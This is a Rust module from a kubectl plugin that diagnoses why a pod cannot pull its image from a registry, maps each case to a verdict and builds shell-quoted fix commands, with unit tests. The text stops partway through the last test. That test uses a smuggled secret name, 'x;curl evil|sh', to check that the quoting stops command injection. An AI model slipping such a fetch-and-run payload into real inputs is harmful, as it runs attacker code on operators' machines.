//! Why an image can or cannot be pulled: the kubelet's decision (docs/semantics.md §4) worked out from
//! a pod spec, its ServiceAccount, the namespace's pull Secrets and recent Events. Pure logic;
//! `check` gathers the inputs.

use std::collections::BTreeMap;
use std::fmt;

use serde::Serialize;

use k8s_openapi::jiff::Timestamp;

use super::admission::{self, PullSecretSource};
use super::expiry::{self, Freshness};
use super::image::ImageRef;
use super::kubelet::{KeyEntry, Keyring, KeyringCredential, SecretProblem};
use super::text::shell_quote;

/// What the kubelet would find for one Secret that exists (a missing one has no state).
#[derive(Debug, Clone)]
pub enum SecretState {
    /// Not a pull Secret type, or no data key: the kubelet silently ignores it.
    Ignored(String),
    /// Unparseable: the kubelet fails every pull of the pod.
    Malformed(String),
    Keys(Vec<KeyEntry>),
}

impl SecretState {
    /// The state of a Secret from what the kubelet's parser made of it.
    pub fn from_parse(result: Result<Vec<KeyEntry>, SecretProblem>) -> Self {
        match result {
            Ok(keys) => Self::Keys(keys),
            Err(SecretProblem::Malformed(reason)) => Self::Malformed(reason),
            Err(other) => Self::Ignored(other.to_string()),
        }
    }
}

/// The verdict for one image.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
#[serde(tag = "verdict", rename_all = "SCREAMING-KEBAB-CASE")]
pub enum Verdict {
    Ok {
        secret: String,
        key: String,
    },
    /// No credential matches; the image may be public. A warning, not a failure.
    Anonymous,
    /// No credential matches, and the registry refused anonymous pulls.
    NoCredential {
        evidence: String,
    },
    SecretMissing {
        secrets: Vec<String>,
    },
    SecretMalformed {
        secret: String,
        reason: String,
    },
    IdentityTokenOnly {
        secret: String,
        key: String,
    },
    /// The template lists its own pull secrets, so the ServiceAccount's (which match) are ignored.
    SaSecretsIgnored {
        secrets: Vec<String>,
    },
    /// The pod was created before its ServiceAccount gained the matching Secret.
    PodPredatesSa {
        secrets: Vec<String>,
        pods: Vec<String>,
    },
    /// A Secret in the namespace matches, but nothing references it.
    NotAttached {
        secrets: Vec<String>,
    },
    InvalidImage {
        reason: String,
    },
    /// The matching credential's password has expired (rules::expiry).
    Expired {
        secret: String,
        key: String,
        at: String,
    },
    /// It expires within the hour: pulls work now, not for long. A warning.
    Expiring {
        secret: String,
        key: String,
        at: String,
    },
    /// `--probe`: the registry refused the matching credential (docs/verify.md).
    BadCredentials {
        secret: String,
        key: String,
        reason: String,
    },
    /// `--probe`: the credential is accepted, but may not pull this image.
    NoPullAccess {
        secret: String,
        key: String,
        reason: String,
    },
    /// `--probe`: the credential is accepted, but the image does not exist.
    NotFound {
        secret: String,
        key: String,
        reason: String,
    },
    /// Pods run the image from a node's cache, but the credential that matches it no longer
    /// works (`because`: EXPIRED, BAD-CREDENTIALS or NO-PULL-ACCESS). With the kubelet's
    /// pull-credential verification (KEP-2535) a new Pod, a restart on another node, or any
    /// pull under `AlwaysVerify` needs a credential that works now: the next pull fails
    /// (docs/check.md, "Running now, failing on the next pull").
    NextPullFails {
        pods: Vec<String>,
        because: Box<Verdict>,
    },
    /// No pull Secret of the Pod gives a credential, but the node's credential providers
    /// (`--credential-provider-config`) match the image: the kubelet asks them, after the
    /// Pod's Secrets (docs/check.md, "Node credential providers").
    NodeProvider {
        providers: Vec<String>,
    },
    /// A provider in ServiceAccount-token mode matches, but the Pod's ServiceAccount lacks an
    /// annotation it requires: the kubelet does not call the plugin, and the pull has no
    /// credential.
    SaNotAnnotated {
        provider: String,
        #[serde(rename = "serviceAccount")]
        service_account: String,
        keys: Vec<String>,
    },
}

/// A node credential provider that matches an image, as `check` sees it for one Pod.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ProviderMatch {
    /// The provider's name.
    pub name: String,
    /// Required ServiceAccount annotations the Pod's ServiceAccount lacks.
    pub missing_annotations: Vec<String>,
}

/// `verdict` when the node's providers `matched` the image (in the kubelet's order): a
/// verdict that found no Secret credential becomes [`Verdict::NodeProvider`], or
/// [`Verdict::SaNotAnnotated`] when every matching provider is one the kubelet would
/// not call for want of an annotation. A Secret that matches keeps its verdict: the kubelet
/// tries the Pod's Secrets first.
pub fn with_providers(
    verdict: Verdict,
    matched: &[ProviderMatch],
    service_account: &str,
) -> Verdict {
    let no_secret_credential = matches!(
        verdict,
        Verdict::Anonymous | Verdict::NoCredential { .. } | Verdict::NotAttached { .. }
    );
    if matched.is_empty() || !no_secret_credential {
        return verdict;
    }
    let called: Vec<String> = matched
        .iter()
        .filter(|m| m.missing_annotations.is_empty())
        .map(|m| m.name.clone())
        .collect();
    if !called.is_empty() {
        return Verdict::NodeProvider { providers: called };
    }
    let first = &matched[0];
    Verdict::SaNotAnnotated {
        provider: first.name.clone(),
        service_account: service_account.to_string(),
        keys: first.missing_annotations.clone(),
    }
}

impl Verdict {
    /// The verdict's short name, as printed in `check`'s table.
    pub fn label(&self) -> &'static str {
        match self {
            Self::Ok { .. } => "OK",
            Self::Anonymous => "ANONYMOUS",
            Self::NoCredential { .. } => "NO-CREDENTIAL",
            Self::SecretMissing { .. } => "SECRET-MISSING",
            Self::SecretMalformed { .. } => "SECRET-MALFORMED",
            Self::IdentityTokenOnly { .. } => "IDENTITY-TOKEN-ONLY",
            Self::SaSecretsIgnored { .. } => "SA-SECRETS-IGNORED",
            Self::PodPredatesSa { .. } => "POD-PREDATES-SA",
            Self::NotAttached { .. } => "NOT-ATTACHED",
            Self::InvalidImage { .. } => "INVALID-IMAGE",
            Self::Expired { .. } => "EXPIRED",
            Self::Expiring { .. } => "EXPIRING",
            Self::BadCredentials { .. } => "BAD-CREDENTIALS",
            Self::NoPullAccess { .. } => "NO-PULL-ACCESS",
            Self::NextPullFails { .. } => "NEXT-PULL-FAILS",
            Self::NodeProvider { .. } => "NODE-PROVIDER",
            Self::SaNotAnnotated { .. } => "SA-NOT-ANNOTATED",
            Self::NotFound { .. } => "NOT-FOUND",
        }
    }

    /// OK, ANONYMOUS and EXPIRING do not fail `check`.
    pub fn is_problem(&self) -> bool {
        !matches!(
            self,
            Self::Ok { .. } | Self::Anonymous | Self::Expiring { .. } | Self::NodeProvider { .. }
        )
    }

    /// What the verdict means for this pod, in one sentence.
    pub fn detail(&self) -> String {
        match self {
            Self::Ok { secret, key } => format!("secret {secret} (key {key})"),
            Self::Anonymous => "no credential matches; fine if the image is public".into(),
            Self::NoCredential { evidence } => format!("no credential matches, and {evidence}"),
            Self::SecretMissing { secrets } => format!(
                "referenced but missing or not a pull secret: {}",
                secrets.join(", ")
            ),
            Self::SecretMalformed { secret, reason } => {
                format!("secret {secret} is malformed, so every pull of the pod fails: {reason}")
            }
            Self::IdentityTokenOnly { secret, key } => {
                format!(
                    "secret {secret} holds only an identity token for {key}, which the kubelet cannot use"
                )
            }
            Self::SaSecretsIgnored { secrets } => format!(
                "the pod lists its own imagePullSecrets, so the ServiceAccount's {} are ignored",
                secrets.join(", ")
            ),
            Self::PodPredatesSa { secrets, pods } => format!(
                "pod(s) {} were created before the ServiceAccount gained {}",
                pods.join(", "),
                secrets.join(", ")
            ),
            Self::NotAttached { secrets } => format!(
                "{} would match but nothing references it",
                secrets.join(", ")
            ),
            Self::InvalidImage { reason } => reason.clone(),
            Self::Expired { secret, key, at } => {
                format!("the credential for {key} in secret {secret} expired at {at}")
            }
            Self::Expiring { secret, key, at } => {
                format!("the credential for {key} in secret {secret} expires at {at}")
            }
            Self::BadCredentials {
                secret,
                key,
                reason,
            }
            | Self::NoPullAccess {
                secret,
                key,
                reason,
            }
            | Self::NotFound {
                secret,
                key,
                reason,
            } => format!("secret {secret} (key {key}): {reason}"),
            Self::NodeProvider { providers } => format!(
                "no pull Secret matches; the node's credential provider {} is asked for it",
                providers.join(", ")
            ),
            Self::SaNotAnnotated {
                provider,
                service_account,
                keys,
            } => format!(
                "the node's credential provider {provider} needs serviceaccount {service_account} to carry {}; without it the kubelet does not call the plugin",
                keys.join(", ")
            ),
            Self::NextPullFails { pods, because } => format!(
                "running from a cached image (pod(s) {}), but the next pull will fail: {}: {}",
                pods.join(", "),
                because.label(),
                because.detail()
            ),
        }
    }

    /// The verdict a fix is built for: a cached image's failing credential, or itself.
    pub fn cause(&self) -> &Verdict {
        match self {
            Self::NextPullFails { because, .. } => because,
            other => other,
        }
    }
}

/// `verdict` for an image that `running` Pods run now: a credential that no longer works
/// becomes [`Verdict::NextPullFails`], since those Pods run from a node's cache.
pub fn on_cached_image(verdict: Verdict, running: &[String]) -> Verdict {
    match verdict {
        Verdict::Expired { .. } | Verdict::BadCredentials { .. } | Verdict::NoPullAccess { .. }
            if !running.is_empty() =>
        {
            Verdict::NextPullFails {
                pods: running.to_vec(),
                because: Box::new(verdict),
            }
        }
        other => other,
    }
}

impl fmt::Display for Verdict {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(self.label())
    }
}

/// Everything the kubelet (and admission) would use for one pod spec.
pub struct PodInputs<'a> {
    /// The spec's own `imagePullSecrets`.
    pub own: &'a [String],
    /// A Pod (admission already ran) rather than a template (admission runs at creation).
    pub is_pod: bool,
    /// The ServiceAccount's `imagePullSecrets`, if the account exists.
    pub service_account: Option<&'a [String]>,
    /// Every Secret by name in the namespace that could matter, with its state.
    pub secrets: &'a BTreeMap<String, SecretState>,
    /// Images whose pull Events show an authorization failure.
    pub auth_failures: &'a [String],
    /// Images a `--probe` found refusing anonymous pulls, with the registry's answer.
    pub probe_refusals: &'a BTreeMap<String, String>,
    /// The time expiries are judged at.
    pub now: Timestamp,
}

impl PodInputs<'_> {
    /// The pull secrets the kubelet would use, and where they come from.
    pub fn effective(&self) -> (Vec<String>, PullSecretSource) {
        admission::effective_pull_secrets(self.own, self.is_pod, self.service_account)
    }
}

/// The kubelet's keyring over the named Secrets; those that did not parse add nothing.
fn keyring<'a>(names: &'a [String], secrets: &'a BTreeMap<String, SecretState>) -> Keyring<'a> {
    Keyring::new(names.iter().filter_map(|name| match secrets.get(name) {
        Some(SecretState::Keys(keys)) => Some((name.as_str(), keys.as_slice())),
        _ => None,
    }))
}

/// Names among `candidates` whose credentials the kubelet would try for `image`.
fn matching_secrets(
    candidates: &[String],
    secrets: &BTreeMap<String, SecretState>,
    image: &ImageRef,
) -> Vec<String> {
    let found = keyring(candidates, secrets).lookup(image);
    let mut names: Vec<String> = Vec::new();
    for name in candidates {
        if found.iter().any(|c| c.secret == name) && !names.contains(name) {
            names.push(name.clone());
        }
    }
    names
}

/// The verdict for one image of a pod spec.
pub fn diagnose(image: &str, inputs: &PodInputs<'_>) -> Verdict {
    let parsed = match ImageRef::parse(image) {
        Ok(parsed) => parsed,
        Err(e) => {
            return Verdict::InvalidImage {
                reason: e.to_string(),
            };
        }
    };
    let (effective, _) = inputs.effective();
    // One unparseable Secret makes MakeDockerKeyring fail: every pull of the pod fails.
    for name in &effective {
        if let Some(SecretState::Malformed(reason)) = inputs.secrets.get(name) {
            return Verdict::SecretMalformed {
                secret: name.clone(),
                reason: reason.clone(),
            };
        }
    }
    let found = keyring(&effective, inputs.secrets).lookup(&parsed);
    match credential_verdict(&found, inputs.now) {
        Some(verdict) => verdict,
        None => why_no_credential(image, &parsed, &effective, inputs),
    }
}

/// OK when the kubelet has a usable credential for the image. The kubelet tries each in
/// order; usable means a username or a password. One that is not expired is enough.
fn credential_verdict(found: &[KeyringCredential<'_>], now: Timestamp) -> Option<Verdict> {
    let first = found.first()?;
    let usable: Vec<&KeyringCredential<'_>> = found
        .iter()
        .filter(|c| !c.entry.username.is_empty() || c.entry.has_password)
        .collect();
    let freshness = |c: &KeyringCredential<'_>| {
        c.entry
            .expires
            .map(|at| (expiry::freshness(at, now), at.to_string()))
    };
    let live = usable
        .iter()
        .find(|c| !matches!(freshness(c), Some((Freshness::Expired, _))));
    Some(match (live, usable.first()) {
        (Some(c), _) => match freshness(c) {
            Some((Freshness::Expiring, at)) => Verdict::Expiring {
                secret: c.secret.to_string(),
                key: c.entry.raw.clone(),
                at,
            },
            _ => Verdict::Ok {
                secret: c.secret.to_string(),
                key: c.entry.raw.clone(),
            },
        },
        (None, Some(c)) => Verdict::Expired {
            secret: c.secret.to_string(),
            key: c.entry.raw.clone(),
            at: freshness(c).map(|(_, at)| at).unwrap_or_default(),
        },
        (None, None) => Verdict::IdentityTokenOnly {
            secret: first.secret.to_string(),
            key: first.entry.raw.clone(),
        },
    })
}

/// With no credential for the image, the likeliest reason, in order: a referenced Secret is
/// missing, the ServiceAccount's matching Secret does not reach the pod, a matching Secret
/// is not referenced, or there is evidence the registry wants one. Else it may be public.
fn why_no_credential(
    image: &str,
    parsed: &ImageRef,
    effective: &[String],
    inputs: &PodInputs<'_>,
) -> Verdict {
    let absent: Vec<String> = effective
        .iter()
        .filter(|name| {
            matches!(
                inputs.secrets.get(*name),
                None | Some(SecretState::Ignored(_))
            )
        })
        .cloned()
        .collect();
    if !absent.is_empty() {
        return Verdict::SecretMissing { secrets: absent };
    }
    if let Some(verdict) = account_verdict(parsed, inputs) {
        return verdict;
    }
    let all: Vec<String> = inputs.secrets.keys().cloned().collect();
    let unreferenced = matching_secrets(&all, inputs.secrets, parsed);
    if !unreferenced.is_empty() {
        return Verdict::NotAttached {
            secrets: unreferenced,
        };
    }
    if inputs.auth_failures.iter().any(|i| i == image) {
        return Verdict::NoCredential {
            evidence: "pull Events show an authorization failure".into(),
        };
    }
    if let Some(answer) = inputs.probe_refusals.get(image) {
        return Verdict::NoCredential {
            evidence: format!("the registry refused an anonymous pull ({answer})"),
        };
    }
    Verdict::Anonymous
}

/// When the ServiceAccount holds a matching Secret the pod does not get (rules::admission).
fn account_verdict(parsed: &ImageRef, inputs: &PodInputs<'_>) -> Option<Verdict> {
    let from_account = matching_secrets(inputs.service_account?, inputs.secrets, parsed);
    if from_account.is_empty() {
        return None;
    }
    // An admitted Pod that took the account's (then shorter) list.
    Some(
        if inputs.is_pod && admission::takes_account_secrets(inputs.own) {
            Verdict::PodPredatesSa {
                secrets: from_account,
                pods: Vec::new(),
            }
        } else {
            Verdict::SaSecretsIgnored {
                secrets: from_account,
            }
        },
    )
}

/// Whether a pull-failure Event message is an authorization failure for `image`.
pub fn is_auth_failure(message: &str, image: &str) -> bool {
    let lower = message.to_ascii_lowercase();
    message.contains(image)
        && [
            "unauthorized",
            "authentication required",
            "authorization failed",
            "401",
            "403",
            "access denied",
            "pull access denied",
            "denied",
            "forbidden",
            "no basic auth credentials",
        ]
        .iter()
        .any(|needle| lower.contains(needle))
}

/// What to do about a verdict: a `command` that works when pasted as it is, and prose
/// `advice` around it (what to do first or after, or all there is when no command can do
/// it). A placeholder such as USER never appears in a command.
#[derive(Debug, Clone, PartialEq, Eq, Default, Serialize)]
#[serde(rename_all = "camelCase")]
pub struct Fix {
    #[serde(skip_serializing_if = "Option::is_none")]
    pub command: Option<String>,
    #[serde(skip_serializing_if = "Option::is_none")]
    pub advice: Option<String>,
}

impl Fix {
    fn command(command: String) -> Self {
        Self {
            command: Some(command),
            advice: None,
        }
    }

    fn advice(advice: impl Into<String>) -> Self {
        Self {
            command: None,
            advice: Some(advice.into()),
        }
    }

    fn both(advice: impl Into<String>, command: String) -> Self {
        Self {
            command: Some(command),
            advice: Some(advice.into()),
        }
    }

    /// More advice, after what is there.
    pub fn then(mut self, more: &str) -> Self {
        self.advice = Some(match self.advice {
            Some(advice) => format!("{advice}; {more}"),
            None => more.to_string(),
        });
        self
    }
}

/// Where a copy's login for one registry came from, which decides how to renew it.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum LoginSource {
    /// Ours, from a source `sync` reads again (docker, podman, the keychain, a Secret).
    Rereadable,
    /// Ours, from `--username`: only given again can it change.
    Explicit { username: String },
    /// Not ours, or ours without a record of its source.
    Unrecorded,
}

/// The fix for a login that expired or that the registry refused, in a Secret of ours:
/// `sync NAME`, which keeps the copies' recorded scope (never `-n NS`, which would narrow it),
/// with the new token given again when it was explicit. `None`: keep [`fix`]'s.
pub fn renewal_fix(verdict: &Verdict, source: &LoginSource, sync_flags: &str) -> Option<Fix> {
    let (Verdict::Expired { secret, key, .. }
    | Verdict::Expiring { secret, key, .. }
    | Verdict::BadCredentials { secret, key, .. }) = verdict.cause()
    else {
        return None;
    };
    let secret = shell_quote(secret);
    match source {
        LoginSource::Rereadable => Some(Fix::both(
            "first log in again (docker login, podman login, kubectl regcred login or the cloud's CLI)",
            format!("kubectl regcred sync {secret}{sync_flags}"),
        )),
        LoginSource::Explicit { username } => Some(Fix::both(
            "give the new password or token on stdin",
            format!(
                "kubectl regcred sync {secret}{sync_flags} --server {} --username {} --password-stdin",
                shell_quote(key),
                shell_quote(username)
            ),
        )),
        LoginSource::Unrecorded => None,
    }
}

/// `fix` with the connection flags of the run (`--context 'c2'`, `--kubeconfig …`), after
/// each `kubectl regcred` and each other `kubectl` in it, so that a pasted fix acts on the
/// cluster that was checked, not on the current context.
pub fn with_connection_flags(fix: &str, flags: &[String]) -> String {
    if flags.is_empty() {
        return fix.to_string();
    }
    let flags = flags.join(" ");
    let mut out = String::with_capacity(fix.len() + flags.len() * 2);
    let mut rest = fix;
    while let Some(at) = rest.find("kubectl ") {
        out.push_str(&rest[..at]);
        let after = &rest[at + "kubectl ".len()..];
        let (command, remaining) = match after.strip_prefix("regcred ") {
            Some(remaining) => ("kubectl regcred ", remaining),
            None => ("kubectl ", after),
        };
        out.push_str(command);
        out.push_str(&flags);
        out.push(' ');
        rest = remaining;
    }
    out.push_str(rest);
    out
}

/// Whether `verdict`'s fix attaches a Secret to its target (which a bare Pod only gets when it
/// is recreated).
pub fn fix_changes_the_target(verdict: &Verdict) -> bool {
    matches!(
        verdict,
        Verdict::Anonymous
            | Verdict::NoCredential { .. }
            | Verdict::SaSecretsIgnored { .. }
            | Verdict::NotAttached { .. }
    )
}

/// The fix for a verdict; `target` is `kind/name` as kubectl spells it.
pub fn fix(verdict: &Verdict, image: &str, target: &str, namespace: &str) -> Option<Fix> {
    // Every value comes from the cluster: quoted, so a pasted fix runs only what it says.
    let host = ImageRef::parse(image)
        .map(|i| i.domain)
        .unwrap_or_else(|_| "REGISTRY".into());
    let server = shell_quote(&host);
    let (target, namespace) = (shell_quote(target), shell_quote(namespace));
    let first = |secrets: &[String]| shell_quote(&secrets[0]).into_owned();
    let relogin =
        format!("first log in again (docker login {server}, or kubectl regcred login {server})");
    Some(match verdict.cause() {
        // `cause` has unwrapped it.
        Verdict::Ok { .. } | Verdict::NextPullFails { .. } | Verdict::NodeProvider { .. } => {
            return None;
        }
        Verdict::SaNotAnnotated {
            service_account,
            keys,
            ..
        } => Fix::advice(format!(
            "annotate the ServiceAccount as your cloud's workload identity expects: kubectl annotate serviceaccount {} {}=VALUE -n {namespace}",
            shell_quote(service_account),
            keys[0]
        )),
        Verdict::Anonymous => Fix::both(
            "only if the image is private",
            format!(
                "kubectl regcred create regcred --server {server} -n {namespace} --attach {target}"
            ),
        ),
        Verdict::NoCredential { .. } => Fix::command(format!(
            "kubectl regcred create regcred --server {server} -n {namespace} --attach {target}"
        )),
        Verdict::SecretMissing { secrets } => Fix::command(format!(
            "kubectl regcred create {} --server {server} -n {namespace}",
            first(secrets)
        )),
        Verdict::SecretMalformed { secret, .. } => Fix::both(
            "rewrite it well-formed",
            format!(
                "kubectl regcred create {} --server {server} -n {namespace} --force",
                shell_quote(secret)
            ),
        ),
        Verdict::IdentityTokenOnly { secret, .. } => Fix::advice(format!(
            "store an access token or a robot account's login instead, for example with kubectl regcred create {} --server {server} --username YOUR-USER --password-stdin -n {namespace} --force",
            shell_quote(secret)
        )),
        Verdict::SaSecretsIgnored { secrets } | Verdict::NotAttached { secrets } => {
            Fix::command(format!(
                "kubectl regcred attach {} {target} -n {namespace}",
                first(secrets)
            ))
        }
        Verdict::PodPredatesSa { .. } if target.starts_with("pod/") => Fix::advice(format!(
            "recreate the pod from its manifest (kubectl delete {target} -n {namespace}, then create it again): a Pod takes its ServiceAccount's Secrets only when it is created"
        )),
        Verdict::PodPredatesSa { .. } => {
            Fix::command(format!("kubectl rollout restart {target} -n {namespace}"))
        }
        Verdict::InvalidImage { .. } => Fix::advice("fix the image reference in the pod spec"),
        // A Secret of ours is renewed with `sync` (renewal_fix); this one is not ours.
        Verdict::Expired { secret, .. }
        | Verdict::Expiring { secret, .. }
        | Verdict::BadCredentials { secret, .. } => Fix::both(
            relogin,
            format!(
                "kubectl regcred create {} --server {server} -n {namespace} --force",
                shell_quote(secret)
            ),
        ),
        Verdict::NoPullAccess { secret, .. } => Fix::advice(format!(
            "give the account pull rights on the repository, or store one that has them, for example with kubectl regcred create {} --server {server} --username YOUR-USER --password-stdin -n {namespace} --force",
            shell_quote(secret)
        )),
        Verdict::NotFound { .. } => Fix::advice(
            "fix the image reference: the login works, but the registry has no such image",
        ),
    })
}

/// How a Secret a ServiceAccount lists looks to the kubelet.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize)]
#[serde(rename_all = "SCREAMING-KEBAB-CASE")]
pub enum SecretStatus {
    Ok,
    SecretMissing,
    SecretMalformed,
    IdentityTokenOnly,
}

impl SecretStatus {
    /// The status as printed (`OK`, `SECRET-MISSING`, ...).
    pub fn label(self) -> &'static str {
        match self {
            Self::Ok => "OK",
            Self::SecretMissing => "SECRET-MISSING",
            Self::SecretMalformed => "SECRET-MALFORMED",
            Self::IdentityTokenOnly => "IDENTITY-TOKEN-ONLY",
        }
    }
}

impl fmt::Display for SecretStatus {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(self.label())
    }
}

/// The verdict on one Secret a ServiceAccount lists, with a fix when it is not OK.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct SecretHealth {
    pub status: SecretStatus,
    pub detail: String,
    pub fix: Option<Fix>,
}

/// What the kubelet makes of the Secret `name` (in `state`) that `account` lists.
pub fn secret_health(
    name: &str,
    state: Option<&SecretState>,
    account: &str,
    namespace: &str,
) -> SecretHealth {
    let (secret, account_name, ns) = (name, account, namespace);
    let (name, account, namespace) = (
        shell_quote(secret),
        shell_quote(&format!("sa/{account_name}")).into_owned(),
        shell_quote(ns),
    );
    let health = |status, detail: String, fix: Option<Fix>| SecretHealth {
        status,
        detail,
        fix,
    };
    match state {
        None => health(
            SecretStatus::SecretMissing,
            "it does not exist".to_string(),
            Some(Fix::command(format!(
                "kubectl regcred create {name} -n {namespace}"
            ))),
        ),
        Some(SecretState::Ignored(why)) => health(
            SecretStatus::SecretMissing,
            format!("the kubelet ignores it: {why}"),
            Some(Fix::command(format!(
                "kubectl regcred detach {name} {account} -n {namespace}"
            ))),
        ),
        Some(SecretState::Malformed(why)) => health(
            SecretStatus::SecretMalformed,
            format!("every pull of pods using it fails: {why}"),
            Some(Fix::advice(format!(
                "rewrite it well-formed, for example with kubectl regcred create {name} --server YOUR-REGISTRY -n {namespace} --force"
            ))),
        ),
        Some(SecretState::Keys(keys))
            if keys
                .iter()
                .all(|k| k.username.is_empty() && !k.has_password) =>
        {
            health(
                SecretStatus::IdentityTokenOnly,
                "it holds no username or password the kubelet can use".to_string(),
                Some(Fix::advice(format!(
                    "store an access token or a robot account's login instead, for example with kubectl regcred create {name} --server YOUR-REGISTRY --username YOUR-USER --password-stdin -n {namespace} --force"
                ))),
            )
        }
        Some(SecretState::Keys(keys)) => health(
            SecretStatus::Ok,
            format!(
                "registries {}",
                keys.iter()
                    .map(|k| k.raw.as_str())
                    .collect::<Vec<_>>()
                    .join(", ")
            ),
            None,
        ),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn connection_flags_follow_each_kubectl_of_a_fix() {
        let flags = vec!["--context 'c2'".to_string()];
        assert_eq!(
            with_connection_flags("kubectl regcred attach x deployment/web -n a", &flags),
            "kubectl regcred --context 'c2' attach x deployment/web -n a"
        );
        assert_eq!(
            with_connection_flags(
                "recreate it (kubectl delete pod/p -n a, then kubectl regcred check -n a)",
                &flags
            ),
            "recreate it (kubectl --context 'c2' delete pod/p -n a, then kubectl regcred --context 'c2' check -n a)"
        );
        assert_eq!(
            with_connection_flags("kubectl regcred sync x", &[]),
            "kubectl regcred sync x"
        );
    }

    fn keys(server: &str, user: &str, pass: bool) -> SecretState {
        SecretState::Keys(vec![KeyEntry {
            raw: server.into(),
            key: crate::rules::kubelet::normalize_key(server).unwrap(),
            username: user.into(),
            has_password: pass,
            expires: None,
        }])
    }

    fn secrets() -> BTreeMap<String, SecretState> {
        BTreeMap::from([
            ("quay".to_string(), keys("quay.io", "robot", true)),
            (
                "hub".to_string(),
                keys("https://index.docker.io/v1/", "me", true),
            ),
            ("token".to_string(), keys("ghcr.io", "", false)),
            (
                "broken".to_string(),
                SecretState::Malformed("bad base64".into()),
            ),
            (
                "opaque".to_string(),
                SecretState::Ignored("type is Opaque".into()),
            ),
        ])
    }

    fn verdict(image: &str, own: &[&str], is_pod: bool, sa: Option<&[&str]>) -> Verdict {
        let own: Vec<String> = own.iter().map(|s| s.to_string()).collect();
        let sa: Option<Vec<String>> = sa.map(|l| l.iter().map(|s| s.to_string()).collect());
        let secrets = secrets();
        let inputs = PodInputs {
            own: &own,
            is_pod,
            service_account: sa.as_deref(),
            secrets: &secrets,
            auth_failures: &["quay.io/private/x:1".to_string()],
            probe_refusals: &BTreeMap::new(),
            now: Timestamp::from_second(1_000_000).unwrap(),
        };
        diagnose(image, &inputs)
    }

    #[test]
    fn expired_and_expiring_credentials() {
        let at = |offset: i64| {
            let mut state = keys("quay.io", "AWS", true);
            if let SecretState::Keys(keys) = &mut state {
                keys[0].expires = Some(Timestamp::from_second(1_000_000 + offset).unwrap());
            }
            state
        };
        let judge = |state: SecretState| {
            let secrets = BTreeMap::from([("ecr".to_string(), state)]);
            let own = vec!["ecr".to_string()];
            let inputs = PodInputs {
                own: &own,
                is_pod: false,
                service_account: None,
                secrets: &secrets,
                auth_failures: &[],
                probe_refusals: &BTreeMap::new(),
                now: Timestamp::from_second(1_000_000).unwrap(),
            };
            diagnose("quay.io/team/app:1", &inputs)
        };
        let expired = judge(at(-10));
        assert_eq!(expired.label(), "EXPIRED");
        assert!(expired.is_problem());
        // Not ours: stored anew. Ours: renewed with sync, keeping its recorded scope.
        assert_eq!(
            fix(&expired, "quay.io/team/app:1", "deployment/web", "ns")
                .unwrap()
                .command
                .unwrap(),
            "kubectl regcred create ecr --server quay.io -n ns --force"
        );
        assert_eq!(
            renewal_fix(&expired, &LoginSource::Rereadable, "")
                .unwrap()
                .command
                .unwrap(),
            "kubectl regcred sync ecr"
        );
        // A standalone Secret is found in its own namespace only.
        assert_eq!(
            renewal_fix(&expired, &LoginSource::Rereadable, " -n ns")
                .unwrap()
                .command
                .unwrap(),
            "kubectl regcred sync ecr -n ns"
        );
        let explicit = LoginSource::Explicit {
            username: "AWS".into(),
        };
        let renewal = renewal_fix(&expired, &explicit, "")
            .unwrap()
            .command
            .unwrap();
        assert!(
            renewal.ends_with(
                "kubectl regcred sync ecr --server quay.io --username AWS --password-stdin"
            ),
            "{renewal}"
        );
        assert!(
            !renewal.contains(" -n "),
            "a fix never narrows the recorded scope"
        );
        let expiring = judge(at(1800));
        assert_eq!(expiring.label(), "EXPIRING");
        assert!(!expiring.is_problem());
        assert_eq!(judge(at(7200)).label(), "OK");
    }

    #[test]
    fn verdicts() {
        assert_eq!(verdict("quay.io/a/b", &["quay"], false, None).label(), "OK");
        assert_eq!(verdict("nginx", &["hub"], true, None).label(), "OK");
        // A template with no list of its own uses the ServiceAccount's.
        assert_eq!(
            verdict("quay.io/a/b", &[], false, Some(&["quay"])).label(),
            "OK"
        );
        assert_eq!(
            verdict("quay.io/a/b", &["hub"], false, Some(&["quay"])).label(),
            "SA-SECRETS-IGNORED"
        );
        assert_eq!(
            verdict("quay.io/a/b", &[], true, Some(&["quay"])).label(),
            "POD-PREDATES-SA"
        );
        assert_eq!(
            verdict("quay.io/a/b", &["quay", "broken"], false, None).label(),
            "SECRET-MALFORMED"
        );
        assert_eq!(
            verdict("ghcr.io/a/b", &["token"], false, None).label(),
            "IDENTITY-TOKEN-ONLY"
        );
        assert_eq!(
            verdict("quay.io/a/b", &["gone"], false, None).label(),
            "SECRET-MISSING"
        );
        assert_eq!(
            verdict("quay.io/a/b", &["opaque"], false, None).label(),
            "SECRET-MISSING"
        );
        assert_eq!(
            verdict("quay.io/a/b", &[], false, None).label(),
            "NOT-ATTACHED"
        );
        assert_eq!(
            verdict("registry.example.com/a", &[], false, None).label(),
            "ANONYMOUS"
        );
        assert_eq!(
            verdict("quay.io/private/x:1", &["hub"], true, None).label(),
            "NOT-ATTACHED"
        );
        assert_eq!(
            verdict("Bad Image", &[], false, None).label(),
            "INVALID-IMAGE"
        );
    }

    #[test]
    fn auth_failures_turn_anonymous_into_no_credential() {
        let secrets = BTreeMap::new();
        let image = "registry.example.com/team/app:1".to_string();
        let failures = [image.clone()];
        let inputs = PodInputs {
            own: &[],
            is_pod: true,
            service_account: None,
            secrets: &secrets,
            auth_failures: &failures,
            probe_refusals: &BTreeMap::new(),
            now: Timestamp::from_second(1_000_000).unwrap(),
        };
        assert_eq!(diagnose(&image, &inputs).label(), "NO-CREDENTIAL");
        assert!(is_auth_failure(
            "Failed to pull image \"registry.example.com/team/app:1\": rpc error: unauthorized: authentication required",
            &image
        ));
        assert!(!is_auth_failure("Back-off pulling image \"other\"", &image));
        assert!(!is_auth_failure(
            "Failed to pull image \"registry.example.com/team/app:1\": not found",
            &image
        ));
    }

    /// Values from the cluster go into a suggested command only shell-quoted.
    #[test]
    fn fixes_quote_what_the_cluster_wrote() {
        let verdict = Verdict::SecretMissing {
            secrets: vec!["x;curl evil|sh".into()],
        };
        assert_eq!(
            fix(&verdict, "quay.io/a/b:1", "deployment/web", "team-a")
                .unwrap()
                .command
                .unwrap(),
            "kubectl regcred create 'x;curl evil|sh' --server quay.io -n team-a"
        );
